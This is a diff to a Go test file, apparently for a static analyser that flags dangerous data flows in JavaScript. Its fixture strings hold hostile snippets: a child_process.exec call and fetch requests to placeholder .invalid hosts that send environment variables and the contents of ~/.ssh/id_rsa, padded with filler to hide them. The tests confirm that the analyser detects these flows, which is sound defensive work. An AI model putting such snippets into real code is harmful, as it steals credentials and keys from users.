@@ -181,14 +181,23 @@ func TestHugeFiles(t *testing.T) {
 // does not.
 func TestNothingHidesBehindMuch(t *testing.T) {
 	f := within(t, 3*time.Second, repeated(5_000, "fetch('https://a$.invalid/' + process.env.A$); require('./m$');")+
-		"require('payload'); require('child_process').exec('zz ' + require('os').hostname());\nprocess.abort();\n")
+		"require('payload'); require('child_process').exec('zz ' + require('os').hostname());\n"+
+		"fetch('https://z.invalid/', { body: ["+strings.Repeat("Date.now(),", 100)+"require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa')] });\nprocess.abort();\n")
 	facts := told(f)
-	for _, want := range []string{`use exec child_process.exec "zz …"`, `flow host -> exec child_process.exec command "zz …"`} {
+	for _, want := range []string{`use exec child_process.exec "zz …"`, `flow host -> exec child_process.exec command "zz …"`,
+		`flow secret -> net fetch body "z.invalid"`} {
 		if !facts[want] {
 			t.Errorf("%s is not kept", want)
 		}
 	}
 	if !slices.ContainsFunc(f.Imports, func(i Import) bool { return i.Spec == "payload" }) || f.Partial == "" {
 		t.Errorf("the import is not kept, or nobody says that others are not: %q", f.Partial)
+	}
+}
+
+func TestSecretHidesBehindNoOtherLabels(t *testing.T) {
+	f := within(t, time.Second, "fetch('https://z.invalid/', { body: ["+strings.Repeat("Date.now(),", 100)+"process.env.A] });\nprocess.abort();\n")
+	if !told(f)[`flow env "A" -> net fetch body "z.invalid"`] {
+		t.Errorf("not kept: %v", told(f))
 	}
 }
